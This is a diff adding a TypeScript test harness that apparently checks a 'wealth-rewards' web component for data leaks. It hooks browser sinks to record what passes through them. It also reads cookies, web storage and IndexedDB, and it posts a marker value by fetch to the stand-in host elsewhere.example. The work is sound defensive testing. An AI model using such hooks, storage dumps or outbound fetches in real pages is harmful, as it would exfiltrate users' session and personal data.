@@ -1,0 +1,176 @@
+import type { WealthRewardsElement } from '../../src/index.ts';
+
+// Runs in the page, before every script of it: records what passes through, and reads what lies there.
+
+/** What the probe has recorded, by sink. */
+export interface Probe {
+  readonly recorded: Record<
+    'events' | 'channels' | 'history' | 'clipboard' | 'console' | 'errors' | 'logger' | 'bridge',
+    string[]
+  >;
+}
+
+export type ProbedWindow = Window & { leakProbe: Probe };
+
+/** Must not refer to anything outside itself: its source is sent to the page. */
+export function installProbe(): void {
+  const toText = (value: unknown): string => {
+    const known = new Set<unknown>();
+    const whole = (_: string, part: unknown): unknown => {
+      if (typeof part !== 'object' || part === null)
+        return typeof part === 'bigint' ? `${part}` : part;
+      if (known.has(part)) return 'again';
+      known.add(part);
+      if (part instanceof Error) {
+        const { name, message, stack, cause } = part;
+        return { ...part, name, message, stack, cause };
+      }
+      return part instanceof Node ? part.nodeName : part;
+    };
+    try {
+      return JSON.stringify(value, whole) ?? String(value);
+    } catch {
+      return String(value);
+    }
+  };
+  const lists = 'events channels history clipboard console errors logger bridge'.split(' ');
+  const recorded = Object.fromEntries(
+    lists.map((name) => [name, []]),
+  ) as unknown as Probe['recorded'];
+  Object.defineProperty(window, 'leakProbe', { value: { recorded } });
+
+  /** Notes the arguments of every call of a method. */
+  const tap = (owner: object, name: string, sink: keyof Probe['recorded']) => {
+    const methods = owner as Record<string, (...given: unknown[]) => unknown>;
+    const own = methods[name]!;
+    methods[name] = function (...given) {
+      const shown = given.map((one) =>
+        one instanceof CustomEvent ? [one.type, one.detail as unknown] : one,
+      );
+      recorded[sink].push(toText(shown));
+      return own.apply(this, given);
+    };
+  };
+  tap(BroadcastChannel.prototype, 'postMessage', 'channels');
+  tap(window, 'postMessage', 'channels');
+  tap(EventTarget.prototype, 'dispatchEvent', 'events');
+  for (const name of ['pushState', 'replaceState']) tap(history, name, 'history');
+  for (const name of ['writeText', 'write']) tap(navigator.clipboard, name, 'clipboard');
+  for (const level of ['debug', 'info', 'log', 'warn', 'error', 'trace', 'table', 'dir', 'assert'])
+    tap(console, level, 'console');
+  addEventListener('error', ({ error, message }) => recorded.errors.push(toText([message, error])));
+  addEventListener('unhandledrejection', ({ reason }) => recorded.errors.push(toText(reason)));
+
+  const listeners = new Set<(event: { data: string }) => void>();
+  const capabilities = 'openUrl share copy saveImage setTitle setBackEnabled haptic'.split(' ');
+  const bridge = {
+    addEventListener: (_: string, listener: (event: { data: string }) => void) =>
+      listeners.add(listener),
+    removeEventListener: (_: string, listener: (event: { data: string }) => void) =>
+      listeners.delete(listener),
+    postMessage(json: string) {
+      recorded.bridge.push(json);
+      const { kind, method, ...rest } = JSON.parse(json) as Record<string, unknown>;
+      if (kind !== 'req') return;
+      const result = method === 'hello' ? { platform: 'test', capabilities } : {};
+      const data = JSON.stringify({ ...rest, method, kind: 'res', result });
+      setTimeout(() => listeners.forEach((listener) => listener({ data })));
+    },
+  };
+  const note = (message: string, fields?: object) =>
+    recorded.logger.push(toText([message, fields]));
+  new MutationObserver((_, observer) => {
+    const element = document.querySelector<WealthRewardsElement>('wealth-rewards');
+    if (!element) return;
+    observer.disconnect();
+    Object.assign(element, { bridge });
+    void customElements.whenDefined('wealth-rewards').then(() => {
+      element.logger = { debug: note, info: note, warn: note, error: note };
+    });
+  }).observe(document, { childList: true, subtree: true });
+}
+
+/** What lies in the page now, by sink. Must not refer to anything outside itself. */
+export async function readPage() {
+  const texts: string[] = [];
+  const attributes: string[] = [];
+  const fields: string[] = [];
+  const walk = (root: ParentNode) => {
+    for (const element of root.querySelectorAll('*')) {
+      const isField = element.matches('input, textarea');
+      if (isField) fields.push((element as HTMLInputElement).value);
+      for (const { name, value } of element.attributes)
+        (isField && name === 'value' ? fields : attributes).push(value);
+      for (const child of isField ? [] : element.childNodes)
+        if (child instanceof Text && !element.matches('style, script')) texts.push(child.data);
+      if (element.shadowRoot) walk(element.shadowRoot);
+    }
+  };
+  walk(document);
+  const dump = async (name: string) => {
+    const opened = await new Promise<IDBDatabase>((resolve, reject) => {
+      const request = indexedDB.open(name);
+      request.onsuccess = () => resolve(request.result);
+      request.onerror = () => reject(new Error(name));
+    });
+    const stores = await Promise.all(
+      [...opened.objectStoreNames].map(
+        (store) =>
+          new Promise((resolve) => {
+            const request = opened.transaction(store).objectStore(store).getAll();
+            request.onsuccess = () => resolve(request.result);
+          }),
+      ),
+    );
+    opened.close();
+    return JSON.stringify([name, stores]);
+  };
+  const databases = await indexedDB.databases();
+  const element = document.querySelector('wealth-rewards') as Partial<WealthRewardsElement> | null;
+  return {
+    'text of the page': texts,
+    attributes,
+    fields,
+    'address of the page': [location.href],
+    'history.state': [JSON.stringify(history.state)],
+    title: [document.title, window.name],
+    localStorage: Object.entries(localStorage).flat(),
+    sessionStorage: Object.entries(sessionStorage).flat(),
+    cookies: [document.cookie],
+    'databases and caches': [
+      ...(await caches.keys()),
+      ...(await Promise.all(databases.map(({ name = '' }) => dump(name)))),
+    ],
+    diagnostics: [JSON.stringify(element?.getDiagnostics?.() ?? null)],
+    properties: [
+      JSON.stringify([element?.currentRoute, element?.state, (element as HTMLElement)?.dataset]),
+    ],
+    'performance entries': performance.getEntries().map(({ name }) => name),
+  };
+}
+
+/** Puts a value into every sink. Must not refer to anything outside itself. */
+export async function leakEverywhere(value: string): Promise<void> {
+  const element = document.querySelector('wealth-rewards')!;
+  element.dispatchEvent(new CustomEvent('wr-error', { detail: { message: value } }));
+  element.navigate(`/pages/login/index?invite=${value}`);
+  element.getDiagnostics = () => ({ state: value }) as never;
+  element.logger?.warn?.(value);
+  element.bridge?.postMessage(JSON.stringify({ method: value }));
+  element.setAttribute('data-own', value);
+  element.append(value);
+  new BroadcastChannel('own').postMessage(value);
+  history.replaceState(value, '', `?own=${value}`);
+  document.title = value;
+  document.cookie = `own=${value}`;
+  localStorage.setItem('own', value);
+  sessionStorage.setItem('own', value);
+  performance.mark(value);
+  console.warn(value);
+  window.dispatchEvent(new ErrorEvent('error', { message: value }));
+  await navigator.clipboard.writeText(value).catch(() => {});
+  await caches.open(value);
+  const headers = { 'x-own': value };
+  const request = { method: 'POST', body: value, headers };
+  await fetch(`https://elsewhere.example/?own=${value}`, request).catch(() => {});
+}
